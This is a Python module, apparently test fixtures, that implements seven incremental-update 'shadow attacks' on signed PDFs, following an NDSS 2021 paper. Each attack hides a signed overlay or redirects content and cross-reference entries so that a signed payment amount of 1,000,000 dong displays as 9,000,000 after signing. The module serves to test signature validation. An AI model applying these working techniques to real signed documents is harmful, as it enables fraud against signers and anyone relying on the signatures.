# pyHanko's PDF object constructors are untyped; this module is nothing but calls to them.
# mypy: disable-error-code="no-untyped-call"
"""Incremental-update "shadow" attacks on signed PDFs, after Mainka, Mladenov and Rohlmann,
"Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021), for the tests.

The attacker prepares the document before it is signed (`prepare_document`): an overlay form
XObject drawn over the page ("So tien: 1.000.000 dong"), and an unreferenced content stream
holding the text to reveal later ("So tien: 9.000.000 dong"). Both are signed. After signing, an
incremental update — written here byte by byte, as an attacker would — changes what a viewer
shows without touching a signed byte:

- hide: the overlay object is redefined as an empty form (hide via object), or its xref entry is
  freed in an update holding nothing but a new xref section (hide via xref);
- replace: the page's content stream is redefined with other text (replace via overwrite), or a
  new annotation or form field is drawn over the page (replace via overlay);
- hide-and-replace: the page object is redefined to use the signed-but-hidden stream, or a new
  xref points the content stream's object number at the hidden stream's bytes ("sign then edit"
  through the cross-reference table alone).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

SHOWN_TEXT = "So tien: 1.000.000 dong"
"""What the signer saw on the page (drawn by the overlay)."""
HIDDEN_TEXT = "So tien: 9.000.000 dong"
"""What the attacker wants to show after signing (signed, but not drawn)."""

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


@dataclass(frozen=True)
class Prepared:
    """Object numbers of the attacker's preparations in a document.

    Attributes:
        page: the first page object.
        contents: the content stream added to the page (draws the overlay).
        overlay: the overlay form XObject (shows `SHOWN_TEXT`).
        hidden: the unreferenced content stream showing `HIDDEN_TEXT`.
        font: the font both use (resource /F1).
    """

    page: int
    contents: int
    overlay: int
    hidden: int
    font: int


def prepare_document(pdf: bytes) -> tuple[bytes, Prepared]:
    """Add the overlay, its content stream and the hidden stream to `pdf` (before signing)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    font = writer.add_object(
        generic.DictionaryObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/Font"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
                generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
            }
        )
    )
    fonts = generic.DictionaryObject({generic.pdf_name("/F1"): font})
    overlay = writer.add_object(
        generic.StreamObject(
            {
                generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
                generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
                generic.pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 413, 583)]
                ),
                generic.pdf_name("/Resources"): generic.DictionaryObject(
                    {generic.pdf_name("/Font"): fonts}
                ),
            },
            stream_data=_text(SHOWN_TEXT, box=True),
        )
    )
    hidden = writer.add_object(generic.StreamObject(stream_data=_text(HIDDEN_TEXT)))
    contents = writer.add_object(generic.StreamObject(stream_data=b"q /Ov Do Q\n"))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    writer.add_stream_to_page(
        0,
        contents,
        resources=generic.DictionaryObject(
            {
                generic.pdf_name("/XObject"): generic.DictionaryObject(
                    {generic.pdf_name("/Ov"): overlay}
                ),
                generic.pdf_name("/Font"): fonts,
            }
        ),
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue(), Prepared(
        page=page_ref.idnum,
        contents=contents.idnum,
        overlay=overlay.idnum,
        hidden=hidden.idnum,
        font=font.idnum,
    )


def append_update(
    pdf: bytes, objects: Mapping[int, bytes | None], *, xref: Mapping[int, int] | None = None
) -> bytes:
    """Append one incremental update, written by hand (ISO 32000-1 section 7.5.6).

    Args:
        pdf: the document to extend (its last revision's trailer gives /Root and /Size).
        objects: object number -> new body (`<< ... >>` or a stream), or None to free it.
        xref: object number -> byte offset of bytes already in `pdf` (an xref-only redirect).

    Returns:
        `pdf` with the update appended; not one of its bytes changed.
    """
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root = reader.trailer.raw_get("/Root")
    size = int(reader.trailer["/Size"])
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    entries: dict[int, bytes] = {}
    for number, body in objects.items():
        if body is None:
            entries[number] = b"0000000000 00001 f \n"
            continue
        entries[number] = b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    for number, offset in (xref or {}).items():
        entries[number] = b"%010d 00000 n \n" % offset
    start = len(out)
    out += b"xref\n"
    for number in sorted(entries):
        out += b"%d 1\n" % number + entries[number]
    out += b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, *(n + 1 for n in entries)),
        root.idnum,
        root.generation,
        prev,
        start,
    )
    return bytes(out)


def object_offset(pdf: bytes, number: int) -> int:
    """Where `number 0 obj` starts in `pdf` (its last definition)."""
    return [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % number, pdf)][-1]


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """The body of a stream object holding `data`."""
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text(text: str, *, box: bool = False) -> bytes:
    white_box = b"1 1 1 rg 20 380 373 60 re f 0 0 0 rg " if box else b""
    return white_box + b"BT /F1 14 Tf 30 400 Td (" + text.encode() + b") Tj ET\n"


# --- the attacks ---------------------------------------------------------------------------------


def hide_via_object(pdf: bytes, p: Prepared) -> bytes:
    """Hide: redefine the overlay as an empty form XObject."""
    empty = stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 413 583] ")
    return append_update(pdf, {p.overlay: empty})


def hide_via_xref(pdf: bytes, p: Prepared) -> bytes:
    """Hide: an update with no object at all, only an xref section freeing the overlay."""
    return append_update(pdf, {p.overlay: None})


def replace_via_overwrite(pdf: bytes, p: Prepared) -> bytes:
    """Replace: redefine the page's content stream with other text."""
    return append_update(pdf, {p.contents: stream(_text(HIDDEN_TEXT, box=True))})


def replace_via_annotation(pdf: bytes, p: Prepared) -> bytes:
    """Replace (overlay): a new revision adds a FreeText annotation, with its appearance, over the
    amount."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    annot = writer.add_object(
        _dict(
            Type=generic.pdf_name("/Annot"),
            Subtype=generic.pdf_name("/FreeText"),
            Rect=_rect(0, 0, 413, 583),
            F=generic.NumberObject(4),
            Contents=generic.TextStringObject(HIDDEN_TEXT),
            DA=generic.TextStringObject("/Helv 14 Tf 0 g"),
            AP=_dict(N=_appearance(writer, p)),
        )
    )
    writer.register_annotation(writer.root["/Pages"]["/Kids"].raw_get(0), annot)
    return _written(writer)


def add_form_field(pdf: bytes, p: Prepared) -> bytes:
    """Replace (overlay): a new revision adds a filled-in text field drawn over the amount."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page = writer.root["/Pages"]["/Kids"].raw_get(0)
    widget = writer.add_object(
        _dict(
            Type=generic.pdf_name("/Annot"),
            Subtype=generic.pdf_name("/Widget"),
            FT=generic.pdf_name("/Tx"),
            T=generic.TextStringObject("amount"),
            V=generic.TextStringObject(HIDDEN_TEXT),
            Rect=_rect(0, 0, 413, 583),
            F=generic.NumberObject(4),
            P=page,
            AP=_dict(N=_appearance(writer, p)),
        )
    )
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(widget)
    writer.update_container(fields)
    writer.register_annotation(page, widget)
    return _written(writer)


def hide_and_replace_via_page(pdf: bytes, p: Prepared) -> bytes:
    """Hide-and-replace: redefine the page object so it draws the signed-but-hidden stream."""
    body = _object_body(pdf, p.page)
    swapped = re.sub(rb"/Contents\s*(\[[^\]]*\]|\d+ \d+ R)", b"/Contents %d 0 R" % p.hidden, body)
    assert swapped != body
    return append_update(pdf, {p.page: swapped})


def hide_and_replace_via_xref(pdf: bytes, p: Prepared) -> bytes:
    """Hide-and-replace ("sign then edit"): an xref-only update pointing the page's content
    stream number at the bytes of the hidden stream, which were signed."""
    return append_update(pdf, {}, xref={p.contents: object_offset(pdf, p.hidden)})


ATTACKS: dict[str, Callable[[bytes, Prepared], bytes]] = {
    "hide-via-object": hide_via_object,
    "hide-via-xref": hide_via_xref,
    "replace-via-overwrite": replace_via_overwrite,
    "replace-via-annotation": replace_via_annotation,
    "replace-via-form-field": add_form_field,
    "hide-and-replace-via-page": hide_and_replace_via_page,
    "hide-and-replace-via-xref": hide_and_replace_via_xref,
}
"""Every attack, by the name tests show."""


def _dict(**entries: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({generic.pdf_name(f"/{k}"): v for k, v in entries.items()})


def _rect(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(n) for n in numbers])


def _appearance(writer: IncrementalPdfFileWriter, p: Prepared) -> generic.IndirectObject:
    """A form XObject showing `HIDDEN_TEXT` on white, with the prepared font."""
    return writer.add_object(
        generic.StreamObject(
            _dict(
                Type=generic.pdf_name("/XObject"),
                Subtype=generic.pdf_name("/Form"),
                BBox=_rect(0, 0, 413, 583),
                Resources=_dict(Font=_dict(F1=generic.IndirectObject(p.font, 0, writer))),
            ),
            stream_data=_text(HIDDEN_TEXT, box=True),
        )
    )


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _object_body(pdf: bytes, number: int) -> bytes:
    start = object_offset(pdf, number)
    match = re.compile(rb"%d 0 obj\s*(.*?)\s*endobj" % number, re.DOTALL).match(pdf, start)
    assert match is not None
    return match.group(1)
